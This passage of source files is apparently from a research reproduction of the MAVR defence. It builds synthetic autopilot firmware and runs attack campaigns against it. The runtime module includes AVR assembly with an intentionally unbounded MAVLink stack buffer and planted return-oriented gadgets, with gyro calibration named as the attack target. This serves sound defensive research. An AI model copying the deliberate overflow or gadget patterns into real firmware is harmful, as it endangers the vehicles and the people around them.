        for path in self._shard_paths():
            if not path.exists():
                continue
            with open(path, encoding="utf-8") as handle:
                for line in handle:
                    line = line.strip()
                    if not line:
                        continue
                    try:
                        entry = json.loads(line)
                        index = entry["index"]
                        if not 0 <= index < len(specs):
                            continue
                        if entry["spec"] != spec_digest(specs[index]):
                            continue
                        completed[index] = _result_from_checkpoint(
                            index, specs[index], entry
                        )
                    except Exception:
                        continue
        return completed

    def run(self, specs: Sequence[ScenarioSpec]) -> CampaignReport:
        specs = list(specs)
        started = time.perf_counter()
        completed: Dict[int, ScenarioResult] = {}
        checkpointing = self.checkpoint_dir is not None
        if checkpointing:
            self.checkpoint_dir.mkdir(parents=True, exist_ok=True)
            if self.resume:
                completed = self._load_checkpoints(specs)
            else:
                for path in self._shard_paths():
                    if path.exists():
                        path.unlink()
        pending = [
            index for index in range(len(specs)) if index not in completed
        ]

        on_result = None
        if self.progress is not None or checkpointing or self.result_sink:
            total = len(specs)
            done = [len(completed)]
            progress = self.progress
            result_sink = self.result_sink
            runner = self

            def on_result(list_index: int, item) -> None:
                index = pending[list_index]
                is_result = isinstance(item, ScenarioResult)
                if (
                    checkpointing and is_result
                    and item.outcome not in ("error", "timeout")
                ):
                    runner._write_checkpoint(index, specs[index], item)
                if result_sink is not None:
                    result_sink(
                        index,
                        item if is_result else _placeholder(
                            index, specs[index], "error", item.message,
                            retried=item.retried,
                        ),
                    )
                if progress is not None:
                    done[0] += 1
                    progress(
                        done[0], total, index,
                        item.outcome if is_result else item.kind,
                    )

        raw = map_indexed(
            _campaign_worker,
            [
                (index, specs[index], self.timeout_s, self.cache_dir)
                for index in pending
            ],
            jobs=self.jobs,
            retry_worker_death=self.retry_worker_death,
            on_result=on_result,
        )
        by_index: Dict[int, ScenarioResult] = dict(completed)
        worker_deaths = 0
        for list_index, item in enumerate(raw):
            index = pending[list_index]
            if isinstance(item, PoolTaskError):
                if item.kind == "worker_death":
                    worker_deaths += 1
                by_index[index] = _placeholder(
                    index, specs[index], "error", item.message,
                    retried=item.retried,
                )
            else:
                by_index[index] = item
        results = [by_index[index] for index in range(len(specs))]

        snapshots = [r.snapshot for r in results if r.snapshot is not None]
        report = CampaignReport(
            results=results,
            aggregates=aggregate_results(results),
            merged_snapshot=Telemetry.merge(snapshots) if snapshots else None,
            phases=aggregate_phases(results),
            runner={
                "jobs": self.jobs,
                "wall_s": time.perf_counter() - started,
                "worker_deaths": worker_deaths,
                "timeout_s": self.timeout_s,
                "resumed": len(completed),
                "cache_dir": self.cache_dir,
                "shards": self.shards if checkpointing else None,
            },
        )
        if self.jsonl_path is not None:
            self.write_jsonl(report)
        return report

    def write_jsonl(self, report: CampaignReport) -> None:
        """One record per spec, in spec order, plus a trailing aggregate.

        Records are deterministic functions of their specs; the trailing
        ``campaign.aggregates`` and ``campaign.phases`` lines carry only
        deterministic sums (the phase line strips its wall-clock fields),
        so the whole file is bit-identical between serial and parallel
        runs of the same spec list.
        """
        with open(self.jsonl_path, "w", encoding="utf-8") as handle:
            for record in report.records():
                handle.write(
                    json.dumps(jsonable(record), separators=(",", ":")) + "\n"
                )
            handle.write(
                json.dumps(
                    {"campaign.aggregates": jsonable(report.aggregates)},
                    separators=(",", ":"),
                )
                + "\n"
            )
            handle.write(
                json.dumps(
                    {
                        "campaign.phases": jsonable(
                            deterministic_phases(report.phases)
                        )
                    },
                    separators=(",", ":"),
                )
                + "\n"
            )
