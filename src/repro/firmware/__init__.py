"""Synthetic autopilot firmware: codegen, manifests, app builders."""

from . import hwmap
from .apps import (
    build_all,
    build_app,
    build_arducopter,
    build_arduplane,
    build_ardurover,
    build_program,
    build_testapp,
)
from .codegen import FunctionFactory
from .manifests import (
    ALL_APPS,
    ARDUCOPTER,
    ARDUPLANE,
    ARDUROVER,
    PAPER_FUNCTION_COUNTS,
    PAPER_MAVR_SIZES,
    PAPER_STARTUP_MS,
    PAPER_STOCK_SIZES,
    TESTAPP,
    AppManifest,
    manifest_by_name,
)
from .runtime import CORE_FUNCTION_NAMES, core_program, core_source
from .toolchain import (
    MAVR_TOOLCHAIN,
    STOCK_TOOLCHAIN,
    ToolchainConfig,
    build,
    code_size_comparison,
)

__all__ = [
    "hwmap",
    "build_all",
    "build_app",
    "build_arducopter",
    "build_arduplane",
    "build_ardurover",
    "build_program",
    "build_testapp",
    "FunctionFactory",
    "ALL_APPS",
    "ARDUCOPTER",
    "ARDUPLANE",
    "ARDUROVER",
    "PAPER_FUNCTION_COUNTS",
    "PAPER_MAVR_SIZES",
    "PAPER_STARTUP_MS",
    "PAPER_STOCK_SIZES",
    "TESTAPP",
    "AppManifest",
    "manifest_by_name",
    "CORE_FUNCTION_NAMES",
    "core_program",
    "core_source",
    "MAVR_TOOLCHAIN",
    "STOCK_TOOLCHAIN",
    "ToolchainConfig",
    "build",
    "code_size_comparison",
]
