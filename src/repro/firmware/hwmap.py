"""Board-level address map shared by firmware, sensors, attacks and tests.

Sensor devices appear as extended-I/O registers (reachable only with
``lds``/``sts``, as on the ATmega2560); firmware state lives in named SRAM
variables whose addresses come from the linker (this module only fixes the
*device* side and the variable *names*).
"""

from __future__ import annotations

# -- sensor device registers (extended I/O, data-space addresses) ----------
# 3-axis gyroscope, 16-bit little-endian per axis.
GYRO_X_REG = 0x0100
GYRO_Y_REG = 0x0102
GYRO_Z_REG = 0x0104
# 3-axis accelerometer.
ACCEL_X_REG = 0x0106
ACCEL_Y_REG = 0x0108
ACCEL_Z_REG = 0x010A
# barometer (pressure, 16-bit)
BARO_REG = 0x010C
# magnetometer heading (16-bit)
MAG_REG = 0x010E

SENSOR_REGS = (
    GYRO_X_REG, GYRO_Y_REG, GYRO_Z_REG,
    ACCEL_X_REG, ACCEL_Y_REG, ACCEL_Z_REG,
    BARO_REG, MAG_REG,
)

# -- servo / actuator output (core I/O) ------------------------------------
SERVO_PORT_IO = 0x02  # PORTA: elevator command byte

# -- UART (data-space addresses, from repro.avr.iospace) --------------------
UART_STATUS = 0xC0  # UCSR0A
UART_DATA = 0xC6  # UDR0

# -- named SRAM variables (sized; addresses assigned by the linker) ---------
# name -> size in bytes
SRAM_VARIABLES = {
    "gyro_value": 6,     # filtered gyro x/y/z, int16 each
    "gyro_offset": 6,    # calibration offset per axis — the attack target
    "accel_value": 6,
    "attitude_state": 6,
    "attitude_est": 2,  # complementary-filter accumulator (muls-based)
    "servo_command": 2,
    "loop_counter": 2,
    "nav_mode": 1,
    "scratch_a": 2,
    "scratch_b": 2,
}

# Telemetry framing emitted by telemetry_send (simplified wire format the
# ground station monitor understands).
TELEMETRY_MARKER = 0xA5
TELEMETRY_TRAILER = 0x5A
TELEMETRY_FRAME_LENGTH = 8  # marker + 6 gyro bytes + trailer

# EEPROM-backed configuration block (paper Fig. 1's persistent storage):
# one magic byte followed by the 6-byte gyro calibration.  Firmware loads
# it at boot when the magic matches; a fresh (erased) EEPROM is skipped.
CONFIG_EEPROM_ADDR = 0x10
CONFIG_MAGIC = 0x42
CONFIG_PAYLOAD_BYTES = 6  # gyro_offset x/y/z

# Size of the vulnerable MAVLink receive buffer on the stack (bytes).
# Sized like a realistic MAVLink receive buffer; the stealthy V2 chain must
# fit inside it ("utilizing the buffer space to store the attack payload").
RX_BUFFER_SIZE = 96
