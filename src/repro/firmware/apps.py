"""Application builder: manifest -> linked :class:`FirmwareImage`.

Build pipeline:

1. Parse the hand-written core (:mod:`repro.firmware.runtime`).
2. Generate filler functions from the manifest's seed until the function
   count matches Table I.
3. Add the dispatch table (function pointers in flash) and parameter data.
4. Link once to measure, then add a calibration parameter block so the
   *stock* build lands on the Table III byte size exactly, and relink.

Builds are cached per (manifest, toolchain, vulnerability) because the big
apps take a few seconds to link.
"""

from __future__ import annotations

from typing import Dict, List, Tuple

from ..asm.ir import DataDef, DataKind, Program
from ..asm.linker import LinkOptions, MAVR_OPTIONS, STOCK_OPTIONS, link
from ..binfmt.image import FirmwareImage
from ..errors import LinkError
from .codegen import FunctionFactory
from .manifests import (
    ALL_APPS,
    ARDUCOPTER,
    ARDUPLANE,
    ARDUROVER,
    TESTAPP,
    AppManifest,
)
from .runtime import CORE_FUNCTION_NAMES, core_program

_CACHE: Dict[Tuple[str, str, bool], FirmwareImage] = {}


def build_program(manifest: AppManifest, vulnerable: bool = True) -> Program:
    """Assemble the full IR program for ``manifest`` (before calibration)."""
    program = core_program(vulnerable)
    factory = FunctionFactory(manifest.seed)

    filler_count = manifest.function_count - len(CORE_FUNCTION_NAMES)
    if filler_count < manifest.task_count:
        raise LinkError(
            f"{manifest.name}: function count {manifest.function_count} too "
            "small for the core + task table"
        )

    text_budget_words = int(manifest.stock_code_size * manifest.text_fraction) // 2
    core_words_estimate = 600  # core + shared blocks + vectors, roughly
    average_words = max(
        (text_budget_words - core_words_estimate) // max(filler_count, 1), 12
    )
    low = max(int(average_words * 0.4), 8)
    high = int(average_words * 1.6)

    # task-safe fillers first (the dispatch table points at them)
    task_names: List[str] = []
    for index in range(manifest.task_count):
        name = f"task_{manifest.name}_{index}"
        program.add_function(
            factory.task_function(name, factory.rng.randint(low, high))
        )
        task_names.append(name)

    remaining = filler_count - manifest.task_count
    switch_left = manifest.switch_function_count
    early_left = manifest.early_ret_count
    prologue_left = manifest.prologue_user_count
    caller_left = manifest.local_caller_pairs
    previous_name: str = task_names[-1]

    for index in range(remaining):
        name = f"fn_{manifest.name}_{index:04d}"
        target = factory.rng.randint(low, high)
        save_count = 0
        if prologue_left > 0 and factory.rng.random() < 0.2:
            save_count = factory.rng.randint(6, 10)
            prologue_left -= 1
        elif factory.rng.random() < 0.25:
            save_count = factory.rng.randint(2, 3)  # inline even under stock
        callees: List[str] = []
        if caller_left > 0 and factory.rng.random() < 0.4:
            callees = [previous_name]  # adjacent call: relaxation candidate
            caller_left -= 1
        with_switch = False
        if switch_left > 0 and factory.rng.random() < 0.12:
            with_switch = True
            switch_left -= 1
        with_early_ret = False
        if early_left > 0 and save_count == 0 and factory.rng.random() < 0.1:
            with_early_ret = True
            early_left -= 1
        program.add_function(
            factory.filler(
                name,
                target,
                callees=callees,
                save_count=save_count,
                with_switch=with_switch,
                with_early_ret=with_early_ret,
            )
        )
        previous_name = name

    program.add_data(
        DataDef("task_table", DataKind.FUNCPTR_TABLE, task_names, segment="flash")
    )
    # a small constant parameter block, typical firmware furniture
    program.add_data(
        DataDef(
            "default_params",
            DataKind.BYTES,
            bytes((i * 7 + 3) & 0xFF for i in range(64)),
            segment="flash",
        )
    )
    return program


def build_app(
    manifest: AppManifest,
    options: LinkOptions = STOCK_OPTIONS,
    vulnerable: bool = True,
    calibrate: bool = True,
) -> FirmwareImage:
    """Build (and cache) the firmware image for one app and toolchain."""
    key = (manifest.name, options.tag, vulnerable)
    if key in _CACHE:
        return _CACHE[key]

    program = build_program(manifest, vulnerable)
    named_options = LinkOptions(
        relax=options.relax,
        call_prologues=options.call_prologues,
        align_functions=options.align_functions,
        name=manifest.name,
    )
    if calibrate:
        _calibrate(program, manifest)
    image = link(program, named_options)
    _CACHE[key] = image
    return image


def _calibrate(program: Program, manifest: AppManifest) -> None:
    """Pad flash data so the *stock* build hits the Table III size exactly."""
    stock = LinkOptions(
        relax=STOCK_OPTIONS.relax,
        call_prologues=STOCK_OPTIONS.call_prologues,
        align_functions=STOCK_OPTIONS.align_functions,
        name=manifest.name,
    )
    measured = link(program, stock).size
    pad = manifest.stock_code_size - measured
    if pad < 0:
        raise LinkError(
            f"{manifest.name}: generated image ({measured} B) exceeds the "
            f"target stock size ({manifest.stock_code_size} B); lower "
            "text_fraction in the manifest"
        )
    if pad:
        program.add_data(
            DataDef("param_pad", DataKind.SPACE, pad, segment="flash")
        )


def build_arduplane(options: LinkOptions = STOCK_OPTIONS, vulnerable: bool = True) -> FirmwareImage:
    return build_app(ARDUPLANE, options, vulnerable)


def build_arducopter(options: LinkOptions = STOCK_OPTIONS, vulnerable: bool = True) -> FirmwareImage:
    return build_app(ARDUCOPTER, options, vulnerable)


def build_ardurover(options: LinkOptions = STOCK_OPTIONS, vulnerable: bool = True) -> FirmwareImage:
    return build_app(ARDUROVER, options, vulnerable)


def build_testapp(options: LinkOptions = MAVR_OPTIONS, vulnerable: bool = True) -> FirmwareImage:
    """The small fast-linking app used throughout the test suite."""
    return build_app(TESTAPP, options, vulnerable)


def build_all(options: LinkOptions = STOCK_OPTIONS) -> Dict[str, FirmwareImage]:
    """All three paper applications under one toolchain."""
    return {m.name: build_app(m, options) for m in ALL_APPS}
