"""Synthetic function generator for the autopilot applications.

The paper evaluates on ArduPlane/ArduCopter/ArduRover — hundreds of
functions of control, filtering and housekeeping code.  We regenerate that
population synthetically but *structurally faithfully*: register-math
kernels, struct accessors (``ldd``/``std`` through Y), copy loops, switch
functions with long-jump trampolines, and local callers that give the
relaxation pass something to shrink.

All generation is deterministic in the seed, so images are reproducible.

Register discipline: bodies use only the call-clobbered registers
(r18..r27, r30/r31) unless the function declares ``save_regs``; r1 is kept
zero (GCC convention).  "Task-safe" fillers — the ones reachable through
the firmware's dispatch table — additionally restrict their stores to the
``scratch_b`` variable so the control loop stays deterministic.
"""

from __future__ import annotations

import random
from typing import List, Optional, Sequence

from ..asm.ir import AsmInsn, FunctionDef, Label, LabelRef, RefKind, SymbolRef
from ..avr.insn import Mnemonic

M = Mnemonic

_SCRATCH_REGS = (18, 19, 20, 21, 22, 23, 24, 25)
_ALU_RR = (M.ADD, M.ADC, M.SUB, M.AND, M.OR, M.EOR, M.MOV)
_ALU_ONE = (M.INC, M.DEC, M.COM, M.NEG, M.LSR, M.SWAP)


class FunctionFactory:
    """Deterministic generator of filler :class:`FunctionDef` objects."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)
        self._counter = 0

    # -- public API ------------------------------------------------------

    def task_function(self, name: str, target_words: int) -> FunctionDef:
        """A filler that is safe to call from the dispatch table."""
        items = self._math_body(max(target_words - 2, 4), pointer_stores=False)
        items.append(AsmInsn(M.STS, k=SymbolRef("scratch_b"), rr=24))
        return FunctionDef(name, items)

    def filler(
        self,
        name: str,
        target_words: int,
        callees: Sequence[str] = (),
        save_count: int = 0,
        with_switch: bool = False,
        with_early_ret: bool = False,
    ) -> FunctionDef:
        """A general filler function of roughly ``target_words`` words."""
        save_regs = self._pick_saves(save_count)
        overhead = 2 * len(save_regs) + 1  # pushes + pops + ret
        budget = max(target_words - overhead, 6)
        items: List = []
        if save_regs:
            with_early_ret = False  # early ret would skip the pop chain
        if with_early_ret:
            items.extend(self._early_ret_guard())
            budget -= 4
        if with_switch:
            switch_items, used = self._switch_body()
            items.extend(switch_items)
            budget -= used
        for callee in callees:
            items.append(AsmInsn(M.CALL, k=SymbolRef(callee)))
            budget -= 2
        if save_regs and 28 in save_regs and 29 in save_regs and self.rng.random() < 0.5:
            struct_items, used = self._struct_body()
            items.extend(struct_items)
            budget -= used
        items.extend(self._math_body(max(budget, 2)))
        return FunctionDef(name, items, save_regs=save_regs)

    def next_name(self, prefix: str) -> str:
        self._counter += 1
        return f"{prefix}_{self._counter:04d}"

    # -- bodies ----------------------------------------------------------

    def _pick_saves(self, save_count: int) -> tuple:
        if save_count <= 0:
            return ()
        pool = list(range(2, 18))
        self.rng.shuffle(pool)
        chosen = sorted(pool[: max(save_count - 2, 0)])
        if save_count >= 2:
            chosen += [28, 29]
        return tuple(chosen)

    def _math_body(self, words: int, pointer_stores: bool = True) -> List:
        """Straight-line register arithmetic, sometimes with a loop.

        ``pointer_stores`` adds X/Z stores (realistic, but only safe in
        functions the control loop never calls — a slide through them with
        junk pointers faults, which is the point).
        """
        items: List = []
        produced = 0
        loop_done = False
        while produced < words:
            roll = self.rng.random()
            if roll < 0.10 and words - produced >= 4 and not loop_done:
                # small counted loop: ldi; label; dec; brne
                label = f"l{self._fresh()}"
                counter = self.rng.choice(_SCRATCH_REGS)
                items.append(AsmInsn(M.LDI, rd=counter, k=self.rng.randint(2, 9)))
                items.append(Label(label))
                items.append(AsmInsn(M.DEC, rd=counter))
                items.append(AsmInsn(M.BRBC, b=1, k=LabelRef(label)))
                produced += 3
                loop_done = True
            elif roll < 0.25:
                items.append(
                    AsmInsn(M.LDI, rd=self.rng.choice(_SCRATCH_REGS),
                            k=self.rng.randint(0, 255))
                )
                produced += 1
            elif roll < 0.35:
                items.append(
                    AsmInsn(self.rng.choice(_ALU_ONE), rd=self.rng.choice(_SCRATCH_REGS))
                )
                produced += 1
            elif roll < 0.45 and words - produced >= 2:
                # scratch spill/reload
                var = self.rng.choice(("scratch_a", "scratch_b"))
                reg = self.rng.choice(_SCRATCH_REGS)
                items.append(AsmInsn(M.STS, k=SymbolRef(var), rr=reg))
                produced += 2
            elif pointer_stores and roll < 0.53 and words - produced >= 3:
                # pointer store through X/Z (buffer writes real firmware is
                # full of; a control-flow slide lands here with junk in the
                # pointer and faults — the realistic failure mode)
                low = self.rng.choice((26, 30))
                items.append(
                    AsmInsn(M.LDI, rd=low, k=self.rng.randint(0x20, 0xFF))
                )
                items.append(AsmInsn(M.LDI, rd=low + 1, k=self.rng.randint(2, 0x21)))
                items.append(
                    AsmInsn(
                        M.ST_X_INC if low == 26 else M.ST_Z_INC,
                        rr=self.rng.choice(_SCRATCH_REGS),
                    )
                )
                produced += 3
            else:
                rd = self.rng.choice(_SCRATCH_REGS)
                rr = self.rng.choice(_SCRATCH_REGS)
                items.append(AsmInsn(self.rng.choice(_ALU_RR), rd=rd, rr=rr))
                produced += 1
        return items

    def _struct_body(self) -> tuple:
        """Y-relative struct accesses (requires r28/r29 saved)."""
        items: List = [
            AsmInsn(M.MOVW, rd=28, rr=24),  # Y = pointer argument
        ]
        words = 1
        for _ in range(self.rng.randint(2, 6)):
            q = self.rng.randint(0, 16)
            reg = self.rng.choice(_SCRATCH_REGS)
            if self.rng.random() < 0.5:
                items.append(AsmInsn(M.LDD_Y, rd=reg, q=q))
            else:
                items.append(AsmInsn(M.STD_Y, rr=reg, q=q))
            words += 1
        return items, words

    def _switch_body(self) -> tuple:
        """cpi/brne dispatch with long-jmp trampolines to local labels."""
        suffix = self._fresh()
        cases = self.rng.randint(2, 4)
        items: List = []
        words = 0
        end_label = f"sw_end{suffix}"
        for case in range(cases):
            check = f"sw_chk{suffix}_{case}"
            target = f"sw_cs{suffix}_{case}"
            items.append(AsmInsn(M.CPI, rd=24, k=case))
            items.append(AsmInsn(M.BRBC, b=1, k=LabelRef(check)))
            items.append(AsmInsn(M.JMP, k=LabelRef(target)))  # trampoline
            items.append(Label(check))
            words += 4
        items.append(AsmInsn(M.RJMP, k=LabelRef(end_label)))
        words += 1
        for case in range(cases):
            items.append(Label(f"sw_cs{suffix}_{case}"))
            items.append(AsmInsn(M.LDI, rd=25, k=case * 3 + 1))
            items.append(AsmInsn(M.RJMP, k=LabelRef(end_label)))
            words += 2
        items.append(Label(end_label))
        return items, words

    def _early_ret_guard(self) -> List:
        """A guarded early return — an extra ret gadget in the image."""
        label = f"cont{self._fresh()}"
        return [
            AsmInsn(M.CPI, rd=24, k=0xFF),
            AsmInsn(M.BRBC, b=1, k=LabelRef(label)),
            AsmInsn(M.RET),
            Label(label),
        ]

    def _fresh(self) -> int:
        self._counter += 1
        return self._counter
