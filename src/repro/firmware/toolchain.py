"""Toolchain facade: the flag combinations from paper §VI-B1.

The paper's build matrix:

* **stock** — what the attacker downloads and analyzes: GNU defaults,
  ``--relax``-style call shortening and ``-mcall-prologues`` shared
  register-save blocks, function alignment padding.
* **MAVR** — the custom toolchain MAVR requires: ``--no-relax`` (every
  call/jump in its long absolute form so any function can be reached from
  anywhere after shuffling) and ``-mno-call-prologues`` (no LDI-encoded
  code pointers into a shared block).

:func:`build` ties a manifest and a config together and reports the code
sizes Table III compares.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict

from ..asm.linker import LinkOptions, MAVR_OPTIONS, STOCK_OPTIONS
from ..binfmt.image import FirmwareImage
from .apps import build_app
from .manifests import ALL_APPS, AppManifest


@dataclass(frozen=True)
class ToolchainConfig:
    """A named toolchain flag set."""

    name: str
    options: LinkOptions

    @property
    def randomizable(self) -> bool:
        """Can MAVR safely randomize binaries from this toolchain?

        Relaxed calls may not reach a moved target, and call-prologue LDI
        pairs hide code pointers from the patcher — both must be off.
        """
        return not self.options.relax and not self.options.call_prologues


STOCK_TOOLCHAIN = ToolchainConfig("stock-gcc", STOCK_OPTIONS)
MAVR_TOOLCHAIN = ToolchainConfig("mavr-custom", MAVR_OPTIONS)


def build(manifest: AppManifest, config: ToolchainConfig = MAVR_TOOLCHAIN,
          vulnerable: bool = True) -> FirmwareImage:
    """Build one app under one toolchain."""
    return build_app(manifest, config.options, vulnerable)


def code_size_comparison() -> Dict[str, Dict[str, int]]:
    """Table III: stock vs MAVR toolchain code size for all three apps."""
    rows: Dict[str, Dict[str, int]] = {}
    for manifest in ALL_APPS:
        stock = build(manifest, STOCK_TOOLCHAIN)
        custom = build(manifest, MAVR_TOOLCHAIN)
        rows[manifest.name] = {
            "stock": stock.size,
            "mavr": custom.size,
            "delta": custom.size - stock.size,
        }
    return rows
