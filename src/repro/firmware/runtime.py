"""Hand-written core of the synthetic autopilot firmware.

These functions are the *reachable* heart of every generated application:
the main control loop, sensor acquisition, a P-controller, the (optionally
vulnerable) MAVLink receive handler, telemetry, the watchdog feed, a
function-pointer task dispatcher, and a switch-trampoline navigation
update.

Two of them exist to carry the paper's exact gadgets:

* ``rtos_context_restore`` — ends in the Fig. 4 ``stk_move`` sequence
  (``out 0x3e``/``out 0x3f``/``out 0x3d`` + three pops + ``ret``), the shape
  avr-libc's ``longjmp`` leaves in real firmware.
* ``param_block_write`` — ``std Y+1..Y+3`` of r5..r7 followed by the long
  callee-save pop chain, the Fig. 5 ``write_mem_gadget``.
"""

from __future__ import annotations

from ..asm import parse_program
from ..asm.ir import Program
from .hwmap import (
    CONFIG_EEPROM_ADDR,
    CONFIG_MAGIC,
    CONFIG_PAYLOAD_BYTES,
    GYRO_X_REG,
    GYRO_Y_REG,
    GYRO_Z_REG,
    RX_BUFFER_SIZE,
    SERVO_PORT_IO,
    SRAM_VARIABLES,
    TELEMETRY_MARKER,
    TELEMETRY_TRAILER,
    UART_DATA,
    UART_STATUS,
)

_VULNERABLE_RX = f"""
.func mavlink_handle_rx saves=r28,r29 inline
    ; allocate the receive buffer on the stack (GCC-style frame)
    in r28, 0x3d
    in r29, 0x3e
    sbiw r28, {RX_BUFFER_SIZE // 2}
    sbiw r28, {RX_BUFFER_SIZE - RX_BUFFER_SIZE // 2}
    out 0x3d, r28
    out 0x3e, r29
    ; X -> first buffer byte
    movw r26, r28
    adiw r26, 1
rx_loop:
    lds r24, {UART_STATUS:#x}
    sbrs r24, 7            ; RXC set?
    rjmp rx_done           ; no byte waiting -> done
    lds r24, {UART_DATA:#x}
    st X+, r24             ; VULNERABILITY: no bound on X (length check off)
    rjmp rx_loop
rx_done:
    ; minimal handling: stash the first two payload bytes
    ldd r24, Y+7
    sts scratch_a, r24
    ldd r24, Y+8
    sts scratch_a+1, r24
    ; release the frame
    adiw r28, {RX_BUFFER_SIZE // 2}
    adiw r28, {RX_BUFFER_SIZE - RX_BUFFER_SIZE // 2}
    out 0x3d, r28
    out 0x3e, r29
.endfunc
"""

_SAFE_RX = f"""
.func mavlink_handle_rx saves=r28,r29 inline
    in r28, 0x3d
    in r29, 0x3e
    sbiw r28, {RX_BUFFER_SIZE // 2}
    sbiw r28, {RX_BUFFER_SIZE - RX_BUFFER_SIZE // 2}
    out 0x3d, r28
    out 0x3e, r29
    movw r26, r28
    adiw r26, 1
    ldi r25, {RX_BUFFER_SIZE}  ; remaining space — the length check
rx_loop:
    lds r24, {UART_STATUS:#x}
    sbrs r24, 7
    rjmp rx_done
    lds r24, {UART_DATA:#x}
    cpi r25, 0
    breq rx_drain              ; buffer full: discard the byte
    st X+, r24
    dec r25
rx_drain:
    rjmp rx_loop
rx_done:
    ldd r24, Y+7
    sts scratch_a, r24
    ldd r24, Y+8
    sts scratch_a+1, r24
    adiw r28, {RX_BUFFER_SIZE // 2}
    adiw r28, {RX_BUFFER_SIZE - RX_BUFFER_SIZE // 2}
    out 0x3d, r28
    out 0x3e, r29
.endfunc
"""


def _axis_read(reg: int, offset: int) -> str:
    """Read one gyro axis, add its calibration offset, store the result."""
    return f"""
    lds r24, {reg:#x}
    lds r25, {reg + 1:#x}
    lds r18, gyro_offset+{offset}
    lds r19, gyro_offset+{offset + 1}
    add r24, r18
    adc r25, r19
    sts gyro_value+{offset}, r24
    sts gyro_value+{offset + 1}, r25
"""


def core_source(vulnerable: bool = True) -> str:
    """Assembly text of the reachable firmware core."""
    rx_handler = _VULNERABLE_RX if vulnerable else _SAFE_RX
    return f"""
.entry main
.text

.func sensors_read
{_axis_read(GYRO_X_REG, 0)}
{_axis_read(GYRO_Y_REG, 2)}
{_axis_read(GYRO_Z_REG, 4)}
.endfunc

.func control_step
    ; P-controller: servo = 0x80 - (gyro_x >> 2)
    lds r24, gyro_value
    lds r25, gyro_value+1
    asr r25
    ror r24
    asr r25
    ror r24
    ldi r18, 0x80
    sub r18, r24
    sts servo_command, r18
    out {SERVO_PORT_IO:#x}, r18
.endfunc

.func config_load
    ; load the EEPROM-backed calibration if the magic byte is programmed
    ldi r24, {CONFIG_EEPROM_ADDR}
    out 0x21, r24          ; EEARL
    ldi r24, 0
    out 0x22, r24          ; EEARH
    sbi 0x1f, 0            ; EECR: strobe EERE
    in r24, 0x20           ; EEDR
    cpi r24, {CONFIG_MAGIC}
    brne cfg_done
    ldi r26, lo8(gyro_offset)
    ldi r27, hi8(gyro_offset)
    ldi r25, {CONFIG_PAYLOAD_BYTES}
    ldi r22, {CONFIG_EEPROM_ADDR + 1}
cfg_loop:
    out 0x21, r22
    sbi 0x1f, 0
    in r24, 0x20
    st X+, r24
    inc r22
    dec r25
    brne cfg_loop
cfg_done:
    nop
.endfunc

.func attitude_estimate
    ; complementary-filter step: attitude_est += (gyro_hi * Kdt) >> 0
    lds r24, gyro_value+1
    ldi r18, 37
    muls r24, r18          ; signed 16-bit product in r1:r0
    lds r20, attitude_est
    lds r21, attitude_est+1
    add r20, r0
    adc r21, r1
    clr r1                 ; restore the GCC zero register
    sts attitude_est, r20
    sts attitude_est+1, r21
.endfunc

.func nav_update
    lds r24, nav_mode
    cpi r24, 1
    brne check_rtl
    jmp mode_loiter        ; switch trampoline: long jmp to a local label
check_rtl:
    cpi r24, 2
    brne mode_default
    jmp mode_rtl
mode_default:
    ldi r24, 0
    sts scratch_b, r24
    rjmp nav_done
mode_loiter:
    ldi r24, 1
    sts scratch_b, r24
    rjmp nav_done
mode_rtl:
    ldi r24, 2
    sts scratch_b, r24
nav_done:
    nop
.endfunc

{rx_handler}

.func telemetry_send
    ldi r24, {TELEMETRY_MARKER:#x}
    sts {UART_DATA:#x}, r24
    lds r24, gyro_value
    sts {UART_DATA:#x}, r24
    lds r24, gyro_value+1
    sts {UART_DATA:#x}, r24
    lds r24, gyro_value+2
    sts {UART_DATA:#x}, r24
    lds r24, gyro_value+3
    sts {UART_DATA:#x}, r24
    lds r24, gyro_value+4
    sts {UART_DATA:#x}, r24
    lds r24, gyro_value+5
    sts {UART_DATA:#x}, r24
    ldi r24, {TELEMETRY_TRAILER:#x}
    sts {UART_DATA:#x}, r24
.endfunc

.func watchdog_feed
    in r24, 0x05           ; PORTB
    ldi r25, 0x01
    eor r24, r25
    out 0x05, r24          ; toggle the master-processor feed line
.endfunc

.func task_dispatch
    ; r24 = task index; dispatch through the flash funcptr table
    ldi r30, lo8(task_table)
    ldi r31, hi8(task_table)
    add r30, r24
    adc r31, r1
    add r30, r24
    adc r31, r1
    lpm r26, Z+
    lpm r27, Z
    movw r30, r26
    icall
.endfunc

.func rtos_context_restore inline
    ; longjmp-style tail: this IS the paper's stk_move gadget (Fig. 4)
    out 0x3e, r29
    out 0x3f, r0
    out 0x3d, r28
    pop r28
    pop r29
    pop r16
.endfunc

.func param_block_write saves=r4,r5,r6,r7,r8,r9,r10,r11,r12,r13,r14,r15,r16,r17,r28,r29 inline
    ; parameter-block store: body + pop chain IS write_mem_gadget (Fig. 5)
    movw r28, r24
    std Y+1, r5
    std Y+2, r6
    std Y+3, r7
.endfunc

.func comms_poll saves=r28,r29 inline
    ; communication task: scratch frame for parse state, then poll the link.
    ; The frame also gives the stack realistic depth below RAMEND — caller
    ; state that a smashing (V1) attack destroys.
    in r28, 0x3d
    in r29, 0x3e
    sbiw r28, 44
    out 0x3d, r28
    out 0x3e, r29
    call mavlink_handle_rx
    adiw r28, 44
    out 0x3d, r28
    out 0x3e, r29
.endfunc

.func main inline
    ; boot signature: one pulse on PORTB bit 1 tells the master we
    ; (re)started — unexpected pulses betray a failed attack's wild reset
    sbi 0x05, 1
    cbi 0x05, 1
    call config_load
main_loop:
    call sensors_read
    call attitude_estimate
    call control_step
    call nav_update
    call comms_poll
    call telemetry_send
    lds r24, loop_counter
    inc r24
    sts loop_counter, r24
    andi r24, 0x07
    call task_dispatch
    call watchdog_feed
    rjmp main_loop
.endfunc

.data
{_sram_decls()}
"""


def _sram_decls() -> str:
    lines = []
    for name, size in SRAM_VARIABLES.items():
        lines.append(f"{name}: .space {size}")
    return "\n".join(lines)


CORE_FUNCTION_NAMES = (
    "config_load",
    "sensors_read",
    "attitude_estimate",
    "control_step",
    "nav_update",
    "comms_poll",
    "mavlink_handle_rx",
    "telemetry_send",
    "watchdog_feed",
    "task_dispatch",
    "rtos_context_restore",
    "param_block_write",
    "main",
)


def core_program(vulnerable: bool = True) -> Program:
    """Parse the core into IR (task_table is added by the app builder)."""
    return parse_program(core_source(vulnerable))
