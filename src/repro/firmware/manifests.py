"""Application manifests: the knobs that pin each app to the paper's rows.

